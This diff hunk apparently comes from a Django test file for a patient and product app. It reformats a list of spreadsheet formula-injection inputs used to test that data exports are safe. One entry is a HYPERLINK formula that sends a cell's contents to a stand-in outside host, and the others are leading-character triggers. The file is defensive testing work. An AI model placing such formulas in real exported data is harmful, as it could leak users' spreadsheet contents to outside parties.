@@ -15,7 +15,7 @@ from tests.practice.factories import PatientFactory, ProductFactory, give_stock
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"]
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"]
 
 
 def export(client: Any, model: str, pks: list[int]) -> list[dict[str, str]]:
